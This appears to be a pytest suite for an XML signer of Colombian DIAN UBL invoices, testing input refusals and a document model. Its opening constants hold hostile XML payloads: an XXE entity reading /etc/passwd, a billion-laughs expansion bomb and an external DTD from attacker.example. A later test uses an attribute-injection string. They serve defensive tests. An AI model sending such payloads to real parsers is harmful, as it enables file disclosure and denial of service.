"""What the signer refuses, each named after the error it expects, and the document model."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from lxml import etree

from minica.environment import Environment
from minica.errors import HostileXml, InvalidInput, MalformedXml, MinicaError
from minica.signing.document import DocumentKind, SlotMode, UblDocument, Wrapper

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><x>&xxe;</x></Invoice>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol3;</Invoice>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/ubl.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""


@pytest.fixture
def invoice(testdata: Path) -> bytes:
    return (testdata / "invoice-habilitacion.xml").read_bytes()


@pytest.mark.parametrize("data", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_hostile_xml_is_refused_before_any_work(
    data: bytes, monkeypatch: pytest.MonkeyPatch, sign: Callable[..., bytes]
) -> None:
    """Refused by the byte pre-scan: lxml never builds a tree, the key is never used."""

    def _no_parsing(*args: object, **kwargs: object) -> None:
        raise AssertionError("the hostile document reached the XML parser")

    monkeypatch.setattr(etree, "fromstring", _no_parsing)
    with pytest.raises(HostileXml):
        sign(data)


def test_oversized_input_is_hostile(invoice: bytes, sign: Callable[..., bytes]) -> None:
    with pytest.raises(HostileXml, match="limit"):
        sign(invoice, max_bytes=len(invoice) - 1)


def test_already_signed_document_is_refused_invalid_input(
    invoice: bytes, sign: Callable[..., bytes]
) -> None:
    with pytest.raises(InvalidInput, match="already has a ds:Signature") as caught:
        sign(sign(invoice))
    assert "exactly one signature" in caught.value.hint


def test_signed_dian_vector_is_refused(testdata: Path, sign: Callable[..., bytes]) -> None:
    vector = testdata.parent / "tests" / "vectors" / "dian" / "Kreo-one__dian-fe19-creditnote.xml"
    with pytest.raises(InvalidInput, match="already"):
        sign(vector.read_bytes())


def test_unknown_root_is_malformed_xml(sign: Callable[..., bytes]) -> None:
    with pytest.raises(MalformedXml) as caught:
        sign(b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>')
    assert "Order" in caught.value.what and "Invoice" in caught.value.hint


def test_right_name_wrong_namespace_is_malformed_xml(sign: Callable[..., bytes]) -> None:
    with pytest.raises(MalformedXml, match="urn:example"):
        sign(b'<Invoice xmlns="urn:example"/>')


def test_not_xml_is_malformed_xml(sign: Callable[..., bytes]) -> None:
    with pytest.raises(MalformedXml):
        sign(b"%PDF-1.7 not xml")


def test_key_of_another_certificate_is_invalid_input(
    invoice: bytes, sign: Callable[..., bytes]
) -> None:
    other = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    with pytest.raises(InvalidInput, match="does not belong"):
        sign(invoice, key=other)


def test_non_rsa_key_is_type_error(invoice: bytes, sign: Callable[..., bytes]) -> None:
    with pytest.raises(TypeError, match="RSA"):
        sign(invoice, key=ec.generate_private_key(ec.SECP256R1()))


def test_naive_signing_time_is_value_error(invoice: bytes, sign: Callable[..., bytes]) -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        sign(invoice, signing_time=dt.datetime(2026, 11, 22, 10, 15))


@pytest.mark.parametrize("given", ['x" onload="', "xmldsig-1\n", "1abc", ""])
def test_bad_signature_id_is_invalid_input(invoice: bytes, sign: Callable[..., bytes], given: str) -> None:
    with pytest.raises(InvalidInput, match="cannot be an XML Id"):
        sign(invoice, signature_id=given)


def test_errors_are_minica_errors() -> None:
    assert issubclass(HostileXml, MinicaError) and issubclass(MalformedXml, ValueError)


# The document model ---------------------------------------------------------------------------

KINDS = {
    "invoice-habilitacion.xml": (DocumentKind.INVOICE, Environment.HABILITACION, "900373987"),
    "invoice-produccion.xml": (DocumentKind.INVOICE, Environment.PRODUCCION, "900373987"),
    "creditnote.xml": (DocumentKind.CREDIT_NOTE, Environment.HABILITACION, "900373987"),
    "debitnote-iso-8859-1.xml": (DocumentKind.DEBIT_NOTE, Environment.HABILITACION, "900373987"),
    "applicationresponse-030-acuse.xml": (DocumentKind.APPLICATION_RESPONSE, Environment.HABILITACION, "860001022"),
    "attacheddocument.xml": (DocumentKind.ATTACHED_DOCUMENT, Environment.HABILITACION, "900373987"),
    "nomina-individual.xml": (DocumentKind.NOMINA_INDIVIDUAL, Environment.HABILITACION, "900373987"),
    "nomina-individual-ajuste.xml": (DocumentKind.NOMINA_INDIVIDUAL_DE_AJUSTE, Environment.HABILITACION, "900373987"),
}


@pytest.mark.parametrize("name", sorted(KINDS))
def test_document_model_reads_kind_environment_and_supplier(name: str, testdata: Path) -> None:
    document = UblDocument.from_bytes((testdata / name).read_bytes())
    kind, environment, nit = KINDS[name]
    assert document.kind is kind
    assert document.environment is environment
    assert document.supplier_nit == nit
    assert not document.signed


def test_absent_profile_execution_id_means_no_environment(invoice: bytes) -> None:
    data = invoice.replace(b"<cbc:ProfileExecutionID>2</cbc:ProfileExecutionID>", b"")
    assert UblDocument.from_bytes(data).environment is None


def test_placeholder_ambiente_is_kept_raw_and_refused_on_use(testdata: Path) -> None:
    path = testdata / "dian-unsigned" / "Kreo-one__dian-nomina-individual-v1.0.2-skeleton.xml"
    document = UblDocument.from_bytes(path.read_bytes())
    assert document.profile_execution_id == "0" and document.supplier_nit == "0"
    with pytest.raises(InvalidInput, match="InformacionGeneral/@Ambiente is '0'") as refused:
        _ = document.environment
    assert "ProfileExecutionID" not in str(refused.value)  # payroll documents have none


@pytest.mark.parametrize(
    ("name", "mode", "wrapper"),
    [
        ("invoice-habilitacion.xml", SlotMode.AFTER, Wrapper.EXTENSION),
        ("invoice-produccion.xml", SlotMode.APPEND, Wrapper.NONE),
        ("attacheddocument.xml", SlotMode.APPEND, Wrapper.NONE),
        ("nomina-individual.xml", SlotMode.APPEND, Wrapper.EXTENSION),
    ],
)
def test_signature_slot(name: str, mode: SlotMode, wrapper: Wrapper, testdata: Path) -> None:
    slot = UblDocument.from_bytes((testdata / name).read_bytes()).signature_slot()
    assert (slot.mode, slot.wrapper) == (mode, wrapper)


def test_xml_lang_around_the_signature_is_refused(invoice: bytes) -> None:
    data = invoice.replace(b"<ext:UBLExtensions>", b'<ext:UBLExtensions xml:lang="es">', 1)
    with pytest.raises(InvalidInput, match="xml:lang"):
        UblDocument.from_bytes(data).signature_slot()
